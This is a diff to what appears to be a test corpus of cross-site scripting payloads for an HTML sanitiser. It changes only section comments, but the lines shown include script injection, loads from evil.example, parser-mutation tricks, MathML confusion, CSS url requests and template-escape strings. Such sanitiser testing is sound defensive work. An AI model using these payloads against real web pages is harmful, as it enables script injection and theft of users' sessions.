@@ -1,6 +1,6 @@
-/** Ways to get a script, a request or a navigation into HTML. */
+/** Ways to smuggle a script, a request or a navigation into HTML. */
 export const XSS_CORPUS: readonly string[] = [
-  // Elements that run, load or send.
+  // Elements that run code, load something or send something.
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
   '<scr<script>ipt>alert(1)</scr</script>ipt>',
@@ -60,7 +60,7 @@ export const XSS_CORPUS: readonly string[] = [
   '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
   '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  // Read otherwise after being written again.
+  // Parsed differently after being serialised again.
   '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
   '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
@@ -151,7 +151,7 @@ export const XSS_CORPUS: readonly string[] = [
   '<p style="list-style-image:url(//evil.example/x)">x</p>',
   '<p style="--x:url(https://evil.example/x);background:var(--x)">x</p>',
   '<p style="@import \'https://evil.example/x\'">x</p>',
-  // Templates that put something together when they are filled in.
+  // Templates that build something when they are filled in.
   '{{ "<script>alert(1)</script>" | raw }}',
   '{% raw %}<script>alert(1)</script>{% endraw %}',
   '<{{ x }}script>alert(1)</script>',
